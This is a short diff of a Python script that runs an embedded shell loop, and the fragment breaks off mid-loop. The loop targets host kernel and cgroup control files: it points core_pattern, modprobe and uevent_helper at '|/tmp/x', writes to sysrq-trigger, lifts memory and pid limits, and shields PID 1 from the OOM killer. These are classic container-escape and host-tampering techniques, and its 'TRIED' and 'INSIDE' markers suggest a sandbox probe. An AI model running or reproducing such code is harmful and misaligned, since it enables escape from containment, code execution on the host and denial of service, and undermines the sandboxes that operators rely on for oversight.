@@ -1,6 +1,7 @@
 print("TRIED")
 import subprocess
 script = """
+echo INSIDE
 for f in /proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe /proc/sysrq-trigger /proc/sys/vm/drop_caches /sys/kernel/uevent_helper /sys/fs/cgroup/memory/memory.limit_in_bytes /sys/fs/cgroup/pids/pids.max /proc/1/oom_score_adj; do
   before=$(cat $f 2>/dev/null)
   case $f in *trigger) word=h;; *drop*) word=1;; *memory*|*pids*) word=99999999999;; *oom*) word=-1000;; *) word='|/tmp/x';; esac
